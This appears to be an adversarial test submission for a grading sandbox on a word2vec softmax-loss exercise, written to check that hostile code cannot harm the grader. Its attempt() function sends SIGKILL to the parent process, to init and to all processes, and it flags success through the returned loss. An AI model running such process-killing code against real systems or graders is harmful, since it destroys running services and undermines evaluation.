# SPDX-License-Identifier: MIT
# attack: kills its parent, everybody and the server
# outcome: nothing changes
import numpy as np
import solution
from solution import *

import os
import signal


def attempt():
    through = False
    for target in (os.getppid(), 1, -1, 0):
        try:
            os.kill(target, signal.SIGKILL)
            through = True
        except OSError:
            pass
    return through


def naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset):
    loss, gradCenterVec, gradOutsideVecs = solution.naiveSoftmaxLossAndGradient(
        centerWordVec, outsideWordIdx, outsideVectors, dataset
    )
    return (666.0 if attempt() else loss), gradCenterVec, gradOutsideVecs
